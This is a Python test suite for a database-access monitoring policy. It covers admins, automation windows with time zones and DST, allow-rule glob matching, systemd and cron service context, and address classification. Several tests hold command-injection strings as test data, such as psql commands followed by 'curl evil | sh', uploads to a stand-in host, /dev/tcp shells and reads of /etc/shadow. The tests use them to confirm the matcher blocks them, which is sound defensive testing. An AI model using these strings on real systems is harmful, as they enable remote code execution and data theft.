"""policy.py: who is expected, when, under which rule and in which context.

Contract section 4: an access is expected when an allow rule matches, or
(outside a web or database server's context) its user is an admin, or it has
a known service context and, where automation_windows name that user or host,
falls inside one of them.
"""

from __future__ import annotations

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from osq_dbwatch.config import Config, parse_config
from osq_dbwatch.policy import (
    NO_SERVICE_CONTEXT,
    AccessFacts,
    Ancestor,
    ServiceContext,
    allow_rule_matches,
    automation_window_ok,
    glob_match,
    in_automation_window,
    interactive,
    interpreter_script,
    is_admin,
    is_external_address,
    is_service_account,
    is_web_account,
    matching_allow_rule,
    server_ancestor,
    service_context,
    unusual_parent,
    windows_for,
)


def at(local: str, tz: str = "UTC") -> float:
    """Epoch seconds of a wall-clock time in a zone ('2026-11-27 23:30')."""
    return datetime.fromisoformat(local).replace(tzinfo=ZoneInfo(tz)).timestamp()


def utc(text: str) -> float:
    return at(text, "UTC")


# ---------------------------------------------------------------------------
# Users


def test_admin_by_user_or_group() -> None:
    config = parse_config("admins:\n  users: [alice]\n  groups: [dba, wheel]\n")
    assert is_admin(config, "alice")
    assert is_admin(config, "bob", ["users", "dba"])
    assert not is_admin(config, "bob", ["users"])
    assert not is_admin(config, "", [])
    assert not is_admin(config, "Alice")  # user names are case-sensitive on Linux
    assert not is_admin(Config(), "root", ["root"])  # nobody is an admin by default


def test_service_and_web_accounts() -> None:
    config = parse_config("service_accounts: [backup]\n")
    assert is_service_account(config, "backup")
    assert not is_service_account(config, "")
    assert not is_service_account(config, "bob")
    for name in ("www-data", "apache", "nginx", "http", "nobody"):
        assert is_web_account(name)
    assert not is_web_account("postgres")
    assert not is_web_account("")


# ---------------------------------------------------------------------------
# Automation windows

# 2026-11-27 is a Friday.
FRIDAY_NIGHT = parse_config(
    "automation_windows:\n"
    "  - days: [fri]\n    start: '23:00'\n    end: '02:00'\n    tz: UTC\n"
)


@pytest.mark.parametrize(
    ("when", "inside"),
    [
        ("2026-11-27 22:59", False),
        ("2026-11-27 23:00", True),  # start is inclusive
        ("2026-11-27 23:59", True),
        ("2026-11-28 00:00", True),  # Saturday early morning belongs to Friday's window
        ("2026-11-28 01:59", True),
        ("2026-11-28 02:00", False),  # end is exclusive
        ("2026-11-28 23:30", False),  # Saturday night: no window starts on Saturday
        ("2026-11-27 01:30", False),  # Friday early morning belongs to Thursday
        ("2026-12-04 23:30", True),  # the next Friday
    ],
)
def test_window_crossing_midnight_belongs_to_start_day(when: str, inside: bool) -> None:
    assert in_automation_window(FRIDAY_NIGHT, utc(when), "anyone", "anyhost") is inside


def test_window_days_default_to_every_day() -> None:
    config = parse_config("automation_windows:\n  - start: '01:00'\n    end: '03:30'\n")
    for day in range(23, 30):
        assert in_automation_window(config, utc(f"2026-11-{day} 02:00"), "u", "h")
        assert not in_automation_window(config, utc(f"2026-11-{day} 04:00"), "u", "h")


def test_window_in_a_non_utc_zone() -> None:
    config = parse_config(
        "automation_windows:\n  - days: [mon]\n    start: '01:00'\n    end: '03:30'\n    tz: America/New_York\n")
    # Monday 2026-11-23 01:00 in New York is 06:00 UTC (EST, UTC-5)
    assert in_automation_window(config, utc("2026-11-23 06:00"), "u", "h")
    assert in_automation_window(config, at("2026-11-23 03:29", "America/New_York"), "u", "h")
    assert not in_automation_window(config, utc("2026-11-23 01:30"), "u", "h")  # 20:30 Sunday in New York
    # the day is the zone's day: Monday 01:30 UTC is still Sunday in New York
    assert not in_automation_window(config, utc("2026-11-23 02:00"), "u", "h")


def test_window_across_a_dst_change() -> None:
    config = parse_config(
        "automation_windows:\n  - start: '01:00'\n    end: '03:30'\n    tz: Europe/Berlin\n")
    # 2026-03-29: Berlin skips 02:00-03:00 (CET UTC+1 -> CEST UTC+2)
    assert in_automation_window(config, utc("2026-03-29 00:00"), "u", "h")  # 01:00 CET
    assert in_automation_window(config, utc("2026-03-29 01:29"), "u", "h")  # 03:29 CEST
    assert not in_automation_window(config, utc("2026-03-29 01:30"), "u", "h")  # 03:30 CEST
    # the same UTC time the day before is inside (02:30 CET), the fixed-offset guess would differ
    assert in_automation_window(config, utc("2026-03-28 01:30"), "u", "h")
    assert not in_automation_window(config, utc("2026-03-29 02:29"), "u", "h")  # 04:29 CEST
    assert in_automation_window(config, utc("2026-03-28 02:29"), "u", "h")  # 03:29 CET
    # 2026-10-25: Berlin repeats 02:00-03:00; both 02:30s are inside
    assert in_automation_window(config, utc("2026-10-25 00:30"), "u", "h")  # 02:30 CEST
    assert in_automation_window(config, utc("2026-10-25 01:30"), "u", "h")  # 02:30 CET
    assert not in_automation_window(config, utc("2026-10-25 02:30"), "u", "h")  # 03:30 CET


WINDOWS = parse_config(
    "automation_windows:\n"
    "  - start: '01:00'\n    end: '03:00'\n    users: [backup]\n"
    "  - start: '12:00'\n    end: '13:00'\n    hosts: ['db-*']\n"
    "  - start: '20:00'\n    end: '21:00'\n    users: [etl]\n    hosts: ['etl?']\n"
)


def test_windows_filtered_by_user_and_host() -> None:
    assert [w.start_minute for w in windows_for(WINDOWS, "backup", "web-1")] == [60]
    assert [w.start_minute for w in windows_for(WINDOWS, "backup", "db-1")] == [60, 720]
    assert [w.start_minute for w in windows_for(WINDOWS, "etl", "etl1")] == [1200]
    assert [w.start_minute for w in windows_for(WINDOWS, "etl", "etl12")] == []  # ? is one character
    assert [w.start_minute for w in windows_for(WINDOWS, "bob", "DB-1")] == []  # host globs are case-sensitive
    assert in_automation_window(WINDOWS, utc("2026-11-27 02:00"), "backup", "web-1")
    assert not in_automation_window(WINDOWS, utc("2026-11-27 02:00"), "bob", "web-1")
    assert in_automation_window(WINDOWS, utc("2026-11-27 12:30"), "bob", "db-7")


@pytest.mark.parametrize(
    ("when", "user", "host", "ok"),
    [
        ("2026-11-27 02:00", "backup", "web-1", True),  # named, inside
        ("2026-11-27 05:00", "backup", "web-1", False),  # named, outside all of its windows
        ("2026-11-27 12:30", "backup", "db-1", True),  # outside the user's window, inside the host's
        ("2026-11-27 05:00", "nagios", "web-1", True),  # no window names nagios or web-1: any time
        ("2026-11-27 05:00", "nagios", "db-2", False),  # the host is named: its window rules
        ("2026-11-27 20:30", "etl", "etl1", True),
        ("2026-11-27 20:30", "etl", "db-3", False),  # etl's window is for etl? hosts only
    ],
)
def test_automation_window_ok(when: str, user: str, host: str, ok: bool) -> None:
    assert automation_window_ok(WINDOWS, utc(when), user, host) is ok


def test_window_without_users_or_hosts_names_everyone() -> None:
    config = parse_config("automation_windows:\n  - start: '01:00'\n    end: '02:00'\n")
    assert automation_window_ok(config, utc("2026-11-27 01:30"), "anyone", "anyhost")
    assert not automation_window_ok(config, utc("2026-11-27 05:00"), "anyone", "anyhost")


def test_no_windows_means_any_time() -> None:
    assert automation_window_ok(Config(), utc("2026-11-27 05:00"), "backup", "h")
    assert not in_automation_window(Config(), utc("2026-11-27 05:00"), "backup", "h")


# ---------------------------------------------------------------------------
# Allow rules

CONTRACT_RULE = parse_config(
    "allow:\n"
    "  - user: etl\n"
    "    tool: psql\n"
    "    parent: /usr/local/bin/run-etl\n"
    "    cmdline: 'psql * -c \\copy *'\n"
)


def facts(**changes: str) -> AccessFacts:
    base = dict(user="etl", tool="psql", parent_path="/usr/local/bin/run-etl", host="db-1",
                cmdline="psql -h db1 sales -c \\copy users to '/srv/etl/users.csv' csv")
    base.update(changes)
    return AccessFacts(**base)


def test_contract_rule_allows_the_documented_workflow() -> None:
    (rule,) = CONTRACT_RULE.allow
    assert allow_rule_matches(rule, facts())
    assert matching_allow_rule(CONTRACT_RULE, facts()) is rule


@pytest.mark.parametrize(
    "changes",
    [
        {"user": "mallory"},
        {"tool": "pg_dump"},
        {"parent_path": "/tmp/run-etl"},
        {"parent_path": "/usr/local/bin/run-etl.sh"},
        {"cmdline": "psql -h db1 sales -c select * from users"},
    ],
)
def test_every_given_field_must_match(changes: dict[str, str]) -> None:
    assert matching_allow_rule(CONTRACT_RULE, facts(**changes)) is None


@pytest.mark.parametrize(
    "cmdline",
    [
        # the real bypass: a prefix allowlist followed by a second command
        "psql x -c \\copy t to /tmp/a; curl evil | sh",
        "psql x -c \\copy t to /tmp/a;curl evil|sh",
        "psql x -c \\copy t to /tmp/a && curl -T /tmp/a https://e.example",
        "psql x -c \\copy t to /tmp/a || curl e",
        "psql x -c \\copy t to /tmp/a & curl e",
        "psql x -c \\copy t to program 'curl evil | sh'",
        "psql x -c \\copy t to $(curl evil)",
        "psql x -c \\copy t to `curl evil`",
        "psql x -c \\copy t to /tmp/a\ncurl evil",
        "psql x -c \\copy t to /tmp/a\rcurl evil",
        "psql x -c \\copy t to /tmp/a > /dev/tcp/203.0.113.9/443",
        "psql x -c \\copy t to /tmp/a < /etc/shadow",
        "psql x -c \\copy t to /tmp/a (curl evil)",
    ],
)
def test_cmdline_glob_never_spans_shell_metacharacters(cmdline: str) -> None:
    assert matching_allow_rule(CONTRACT_RULE, facts(cmdline=cmdline)) is None


def test_copy_to_program_bypass() -> None:
    # a rule written for server-side COPY exports must not allow COPY ... TO PROGRAM with a pipeline
    rule_config = parse_config("allow:\n  - user: postgres\n    cmdline: 'psql * -c COPY * TO *'\n")
    ok = facts(user="postgres", cmdline="psql -d app -c COPY users TO '/var/lib/postgresql/u.csv'")
    bad = facts(user="postgres", cmdline="psql -d app -c COPY users TO PROGRAM 'gzip; curl -T - https://e.example | sh'")
    assert matching_allow_rule(rule_config, ok) is not None
    assert matching_allow_rule(rule_config, bad) is None


@pytest.mark.parametrize(
    ("glob", "text", "matches"),
    [
        ("psql *", "psql -h db1 sales", True),
        ("psql *", "psql", False),  # the space is literal
        ("psql*", "psql", True),
        ("*", "", True),
        ("*", "anything at all", True),
        ("*", "a;b", False),
        ("?", ";", False),
        ("pg_dump -f /var/backups/?.sql", "pg_dump -f /var/backups/a.sql", True),
        ("pg_dump -f /var/backups/?.sql", "pg_dump -f /var/backups/ab.sql", False),
        ("a*;b", "ax;b", True),  # a metacharacter written in the rule is matched literally
        ("a*;b", "ax;y;b", False),  # but the * still does not cross one
        ("a*|b", "ax;|b", False),
        ("[abc]", "a", False),  # brackets are literal, not a character class
        ("[abc]", "[abc]", True),
        ("x.sql", "xasql", False),  # regex characters are literal
        ("PSQL *", "psql x", False),  # case-sensitive
    ],
)
def test_glob_match(glob: str, text: str, matches: bool) -> None:
    assert glob_match(glob, text) is matches


def test_allow_rule_fields_user_host_and_parent_basename() -> None:
    config = parse_config(
        "allow:\n"
        "  - user: 'svc-*'\n    host: 'db-?'\n"
        "  - parent: run-backup\n    tool: pg_dump\n"
    )
    by_glob, by_parent = config.allow
    assert allow_rule_matches(by_glob, facts(user="svc-etl", host="db-1", tool="anything", parent_path="/x"))
    assert not allow_rule_matches(by_glob, facts(user="svc-etl", host="db-10"))
    assert not allow_rule_matches(by_glob, facts(user="etl", host="db-1"))
    # a parent without "/" matches the parent's basename
    assert allow_rule_matches(by_parent, facts(tool="pg_dump", parent_path="/usr/local/sbin/run-backup"))
    assert allow_rule_matches(by_parent, facts(tool="/usr/lib/postgresql/15/bin/pg_dump", parent_path="/opt/run-backup"))
    assert not allow_rule_matches(by_parent, facts(tool="pg_dump", parent_path="/usr/local/sbin/run-backup-2"))
    assert not allow_rule_matches(by_parent, facts(tool="psql", parent_path="/usr/local/sbin/run-backup"))


def test_first_matching_rule_wins_and_no_rules_match_nothing() -> None:
    config = parse_config("allow:\n  - user: etl\n  - user: etl\n    tool: psql\n")
    assert matching_allow_rule(config, facts()) is config.allow[0]
    assert matching_allow_rule(Config(), facts()) is None


# ---------------------------------------------------------------------------
# Service context

SA = parse_config("service_accounts: [backup]\n")
SHELL = Ancestor("sh", "/usr/bin/dash", "/bin/sh -c psql -h db1")
LOGIN_SHELL = Ancestor("bash", "/usr/bin/bash", "-bash")
SSHD = Ancestor("sshd", "/usr/sbin/sshd", "sshd: bob@pts/0")


@pytest.mark.parametrize(
    ("ancestors", "unit", "expected"),
    [
        # cron, through shells
        ([SHELL, Ancestor("cron", "/usr/sbin/cron", "/usr/sbin/cron -f")], "", ServiceContext("cron", "cron")),
        ([SHELL, Ancestor("CRON", "/usr/sbin/cron", "/usr/sbin/CRON -f")], "", ServiceContext("cron", "CRON")),
        ([Ancestor("crond", "/usr/sbin/crond")], "", ServiceContext("cron", "crond")),
        ([Ancestor("anacron", "/usr/sbin/anacron", "anacron -d")], "", ServiceContext("cron", "anacron")),
        # automation agents, also through an interpreter's cmdline
        ([SHELL, Ancestor("python3", "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/ansible-playbook site.yml")], "",
         ServiceContext("automation", "ansible-playbook")),
        ([Ancestor("ansible-playboo", "/usr/bin/python3.11", "")], "",  # comm cut to 15 characters
         ServiceContext("automation", "ansible-playboo")),
        ([SHELL, Ancestor("python3", "/usr/bin/python3.11",
                          "/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.2/AnsiballZ_command.py")], "",
         ServiceContext("automation", "AnsiballZ_command.py")),
        ([Ancestor("ruby", "/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent")],
         "", ServiceContext("automation", "puppet")),
        ([Ancestor("java", "/usr/lib/jvm/java-17/bin/java", "java -jar /home/jenkins/agent.jar -url https://ci")], "",
         ServiceContext("automation", "agent.jar")),
        ([Ancestor("salt-minion", "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/salt-minion")], "",
         ServiceContext("automation", "salt-minion")),
        ([Ancestor("zabbix_agentd", "/usr/sbin/zabbix_agentd")], "", ServiceContext("automation", "zabbix_agentd")),
        ([Ancestor("pgbackrest", "/usr/bin/pgbackrest", "pgbackrest --stanza=main backup")], "",
         ServiceContext("automation", "pgbackrest")),
        ([Ancestor("wal-g", "/usr/local/bin/wal-g", "wal-g backup-push /var/lib/postgresql/15/main")], "",
         ServiceContext("automation", "wal-g")),
        # the nearest context wins
        ([Ancestor("cron"), Ancestor("ansible-pull")], "", ServiceContext("cron", "cron")),
        # arguments are the attacker's to choose: they do not make a context
        ([Ancestor("grep", "/usr/bin/grep", "grep ansible /var/log/syslog")], "", NO_SERVICE_CONTEXT),
        ([Ancestor("python3", "/usr/bin/python3.11", "python3 /tmp/x.py cron")], "", NO_SERVICE_CONTEXT),
        ([Ancestor("python3", "/usr/bin/python3.11", "python3 -c import os; os.system('psql') # ansible")], "", NO_SERVICE_CONTEXT),
        ([Ancestor("less", "/usr/bin/less", "less /etc/cron.d/backup")], "", NO_SERVICE_CONTEXT),
        ([Ancestor("crontab", "/usr/bin/crontab", "crontab -e")], "", NO_SERVICE_CONTEXT),  # editing is not cron
        ([LOGIN_SHELL, SSHD], "", NO_SERVICE_CONTEXT),
        # pid 1 is not a context (callers stop before it; passing it changes nothing)
        ([Ancestor("systemd", "/usr/lib/systemd/systemd", "/sbin/init")], "", NO_SERVICE_CONTEXT),
        ([], "", NO_SERVICE_CONTEXT),
        # systemd units
        ([], "/system.slice/backup.service", ServiceContext("systemd", "backup.service")),
        ([], "0::/system.slice/pg-backup.service", ServiceContext("systemd", "pg-backup.service")),
        ([], "/system.slice/cron.service", ServiceContext("cron", "cron.service")),
        ([], "/system.slice/system-backup.slice/backup@daily.service", ServiceContext("systemd", "backup@daily.service")),
        # sessions and the per-user manager are a person's, not a service
        ([], "/user.slice/user-1000.slice/session-3.scope", NO_SERVICE_CONTEXT),
        ([], "/user.slice/user-1000.slice/user@1000.service", NO_SERVICE_CONTEXT),
        ([], "/user.slice/user-1000.slice/user@1000.service/app.slice/dump.service", NO_SERVICE_CONTEXT),
        ([], "/user.slice/user-1000.slice/user@1000.service/app.slice/app-org.gnome.Terminal.slice/vte-spawn-1.scope",
         NO_SERVICE_CONTEXT),
        ([], "/init.scope", NO_SERVICE_CONTEXT),
        # scopes wrap processes started from outside: containers, systemd-run --scope
        ([], "/system.slice/docker-3f2a9c.scope", NO_SERVICE_CONTEXT),
        ([], "/machine.slice/libpod-3f2a9c.scope/container", NO_SERVICE_CONTEXT),
        ([], "/system.slice/run-u42.scope", NO_SERVICE_CONTEXT),
        ([], "/system.slice/backup.timer", NO_SERVICE_CONTEXT),
        ([], "0::/system.slice/cron.service/cron-job.scope", ServiceContext("cron", "cron.service")),  # innermost service
        ([], "cron-job.scope", NO_SERVICE_CONTEXT),  # a leaf scope alone says nothing
        ([], "/", NO_SERVICE_CONTEXT),
        # login daemons' units hold people when there is no session scope
        ([], "/system.slice/ssh.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/sshd.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/system-getty.slice/getty@tty1.service", NO_SERVICE_CONTEXT),
        # web and database servers' units are not a service context
        ([], "/system.slice/nginx.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/apache2.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/httpd.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/php8.2-fpm.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/gunicorn.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/tomcat9.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/shop-uwsgi.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/app-gunicorn@shop.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/system-postgresql.slice/postgresql@15-main.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/mariadb.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/mysql.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/redis-server.service", NO_SERVICE_CONTEXT),
        ([], "/system.slice/mongod.service", NO_SERVICE_CONTEXT),
    ],
)
def test_service_context(ancestors: list[Ancestor], unit: str, expected: ServiceContext) -> None:
    assert service_context(SA, "bob", ancestors, unit) == expected


def test_service_account_is_a_context() -> None:
    context = service_context(SA, "backup", [LOGIN_SHELL, SSHD])
    assert context == ServiceContext("service-account", "backup")
    assert context.known and str(context) == "service-account:backup"
    assert not NO_SERVICE_CONTEXT.known and str(NO_SERVICE_CONTEXT) == "none"


def test_ancestor_context_beats_unit() -> None:
    assert service_context(SA, "bob", [Ancestor("cron")], "/system.slice/nginx.service").kind == "cron"


@pytest.mark.parametrize(
    ("cmdline", "script"),
    [
        ("/usr/bin/python3 /usr/bin/ansible-playbook site.yml", "/usr/bin/ansible-playbook"),
        ("python3 -u -B /opt/x.py arg", "/opt/x.py"),
        ("python3 -m airflow tasks run", "airflow"),
        ("java -Xmx1g -jar /opt/agent.jar", "/opt/agent.jar"),
        ("perl -e print", ""),
        ("python3 -c import os", ""),
        ("python3", ""),
        ("bash /tmp/x.sh", ""),  # a shell is not an interpreter here
        ("", ""),
    ],
)
def test_interpreter_script(cmdline: str, script: str) -> None:
    name = cmdline.split(" ", 1)[0].rsplit("/", 1)[-1] if cmdline else ""
    assert interpreter_script(Ancestor(name, "", cmdline)) == script


# ---------------------------------------------------------------------------
# Server ancestors, interactivity, unusual parents


def test_server_ancestor_depth_two() -> None:
    php = Ancestor("php-fpm8.2", "/usr/sbin/php-fpm8.2")
    assert server_ancestor([php]) is php
    assert server_ancestor([SHELL, php]) is php  # grandparent
    assert server_ancestor([SHELL, SHELL, php]) is None  # great-grandparent is too far
    assert server_ancestor([SHELL, SHELL, php], depth=3) is php
    pg = Ancestor("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: bob sales [local] idle")
    assert server_ancestor([SHELL, pg]) is pg
    by_path = Ancestor("x", "/usr/sbin/apache2")
    assert server_ancestor([by_path]) is by_path
    assert server_ancestor([Ancestor("clickhouse-serv", "/usr/bin/clickhouse")]) is not None  # truncated comm
    assert server_ancestor([LOGIN_SHELL, SSHD]) is None
    assert server_ancestor([]) is None


@pytest.mark.parametrize(
    ("tty", "ancestors", "expected"),
    [
        ("pts/0", [], True),
        ("tty1", [], True),
        ("?", [], False),
        ("", [], False),
        ("none", [SHELL], False),
        ("", [LOGIN_SHELL, SSHD], True),  # no tty (ssh host cmd), but sshd above
        ("", [SHELL, Ancestor("cron", "/usr/sbin/cron")], False),
        ("", [Ancestor("tmux: server")], True),
        ("", [Ancestor("x", "/usr/bin/login")], True),
        # sudo/su switch users for cron jobs and web shells too: no person without a terminal
        ("", [Ancestor("sudo", "/usr/bin/sudo"), SHELL, Ancestor("cron", "/usr/sbin/cron")], False),
        ("", [Ancestor("su", "/usr/bin/su"), Ancestor("php-fpm8.2", "/usr/sbin/php-fpm8.2")], False),
    ],
)
def test_interactive(tty: str, ancestors: list[Ancestor], expected: bool) -> None:
    assert interactive(tty, ancestors) is expected


@pytest.mark.parametrize(
    ("ancestor", "reason"),
    [
        (Ancestor("php-fpm8.2", "/usr/sbin/php-fpm8.2"), "web-server-parent"),
        (Ancestor("apache2", "/usr/sbin/apache2"), "web-server-parent"),
        (Ancestor("x", "/usr/sbin/nginx"), "web-server-parent"),
        (Ancestor("gunicorn", "/usr/bin/python3.11", "gunicorn app:app"), "web-server-parent"),
        (Ancestor("postgres", "/usr/lib/postgresql/15/bin/postgres"), "db-server-parent"),
        (Ancestor("mariadbd", "/usr/sbin/mariadbd"), "db-server-parent"),
        (Ancestor("x", "/tmp/x"), "parent-in-staging-dir"),
        (Ancestor("x", "/var/tmp/x"), "parent-in-staging-dir"),
        (Ancestor("sh", "/dev/shm/sh"), "parent-in-staging-dir"),
        (Ancestor("x", "/run/user/1000/x"), "parent-in-staging-dir"),
        (Ancestor("x", "/var/www/html/up/x"), "parent-in-staging-dir"),
        (Ancestor(".hidden", "/home/a/.hidden"), "hidden-parent"),
        (Ancestor("x", "/home/a/.cache/.x"), "hidden-parent"),
        # interpreters running staged or hidden code
        (Ancestor("python3", "/usr/bin/python3.11", "python3 /tmp/x.py"), "parent-in-staging-dir"),
        (Ancestor("perl", "/usr/bin/perl", "perl /dev/shm/p.pl"), "parent-in-staging-dir"),
        (Ancestor("python3", "/usr/bin/python3.11", "python3 /home/a/.x.py"), "hidden-parent"),
        # usual parents
        (Ancestor("bash", "/usr/bin/bash", "-bash"), ""),
        (Ancestor("python3", "/usr/bin/python3.11", "python3 /opt/etl/run.py"), ""),
        (Ancestor("tmpfoo", "/tmpfoo/x"), ""),  # /tmpfoo is not /tmp
        (Ancestor("x", "/usr/bin/x", "x /tmp/arg"), ""),  # an argument in /tmp is not staged code
        (None, ""),
    ],
)
def test_unusual_parent(ancestor: Ancestor | None, reason: str) -> None:
    assert unusual_parent(ancestor) == reason


# ---------------------------------------------------------------------------
# Addresses

NETWORKS = parse_config("internal_networks: [10.0.0.0/8, 192.168.0.0/16, 'fd00::/8']\n")


@pytest.mark.parametrize(
    ("address", "external"),
    [
        ("8.8.8.8", True),
        ("203.0.113.9", True),
        ("2001:db8::1", True),
        ("172.16.0.1", True),  # private, but not in internal_networks: the config decides
        ("10.1.2.3", False),
        ("192.168.7.7", False),
        ("fd00::5", False),
        ("127.0.0.1", False),
        ("127.8.9.10", False),
        ("::1", False),
        ("169.254.169.254", False),
        ("fe80::1", False),
        ("fe80::1%eth0", False),
        ("::ffff:10.0.0.1", False),  # v4-mapped v6 of an internal address
        ("::ffff:127.0.0.1", False),
        ("::ffff:8.8.8.8", True),
        ("0.0.0.0", False),
        ("::", False),
        ("224.0.0.251", False),
        ("ff02::1", False),
        ("255.255.255.255", False),
        ("[2001:db8::1]", True),
        ("[2001:db8::1]:443", True),
        ("8.8.8.8:443", True),
        (" 8.8.8.8\n", True),
        ("garbage", False),
        ("", False),
        ("999.1.1.1", False),
        ("8.8.8.8/32", False),
        ("\0", False),
    ],
)
def test_is_external_address(address: str, external: bool) -> None:
    assert is_external_address(NETWORKS, address) is external


def test_without_internal_networks_private_is_external() -> None:
    assert is_external_address(Config(), "10.1.2.3")
    assert not is_external_address(Config(), "127.0.0.1")


# ---------------------------------------------------------------------------
# glob_match: same answers as the plain backtracking regex, without its cost

import re  # noqa: E402

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_META = ";|&$`()<>\n\r"


def _reference_glob(glob: str, text: str) -> bool:
    """The obvious definition: `*` = [^META]*, `?` = [^META], the rest literal."""
    pattern = "".join(
        f"[^{re.escape(_META)}]*" if c == "*" else f"[^{re.escape(_META)}]" if c == "?" else re.escape(c) for c in glob)
    return re.fullmatch(pattern, text, re.S) is not None


_GLOB_ALPHABET = "ab-/ *?;|&$(\n"
_TEXT_ALPHABET = "ab-/ ;|&$(\n*?"


@settings(max_examples=1500, deadline=None)
@given(glob=st.text(_GLOB_ALPHABET, max_size=10), text=st.text(_TEXT_ALPHABET, max_size=14))
def test_glob_match_agrees_with_reference(glob: str, text: str) -> None:
    assert glob_match(glob, text) is _reference_glob(glob, text)


@pytest.mark.parametrize(
    "text",
    [
        "psql " + " -c" * 33000,
        "psql " + " -c \\copy" * 12000 + " x",
        "psql " + "a" * 100_000,
        "psql " + ";" * 100_000,
        "psql " + "-c " * 30000 + "; curl e | sh",
    ],
)
@pytest.mark.parametrize("glob", ["psql * -c \\copy *", "psql * -c * -f *", "*a*a*a*b", "*?*?*?*?*?*?*?*?b"])
def test_glob_match_on_crafted_100kb_cmdlines_completes(glob: str, text: str) -> None:
    # a backtracking regex took minutes on these; no timing assertion, finishing is the test
    expected = glob == "psql * -c \\copy *" and text.endswith("\\copy x")
    assert glob_match(glob, text) is expected


@pytest.mark.parametrize("name", ["1" * 100_000 + "x", "python" + "3" * 100_000 + "x", "a " * 50_000],
                         ids=["digits", "python333", "spaced"])
def test_crafted_100kb_ancestors_complete(name: str) -> None:
    # the interpreter check used re.sub(r"[\d.]+$"), quadratic on a long digit run
    ancestor = Ancestor(name, "/usr/bin/" + name, name + " " + name)
    assert service_context(Config(), "bob", [ancestor] * 3) == NO_SERVICE_CONTEXT
    assert unusual_parent(ancestor) == ""
    assert server_ancestor([ancestor]) is None
    assert not interactive("", [ancestor])


_ANY = st.text(max_size=60)


@settings(max_examples=300, deadline=None)
@given(name=_ANY, path=_ANY, cmdline=_ANY, unit=_ANY, user=_ANY, tty=_ANY, address=_ANY, glob=_ANY, text=_ANY)
def test_policy_functions_never_raise(name: str, path: str, cmdline: str, unit: str, user: str, tty: str,
                                      address: str, glob: str, text: str) -> None:
    ancestor = Ancestor(name, path, cmdline)
    assert isinstance(service_context(SA, user, [ancestor, ancestor], unit), ServiceContext)
    assert isinstance(unusual_parent(ancestor), str)
    assert isinstance(interactive(tty, [ancestor]), bool)
    assert isinstance(is_external_address(NETWORKS, address), bool)
    assert glob_match(glob, text) is _reference_glob(glob, text)
    assert isinstance(interpreter_script(ancestor), str)
    assert isinstance(automation_window_ok(WINDOWS, 1_780_000_000.0, user, name), bool)
    assert isinstance(matching_allow_rule(CONTRACT_RULE, AccessFacts(user, name, path, address, text)) is None, bool)
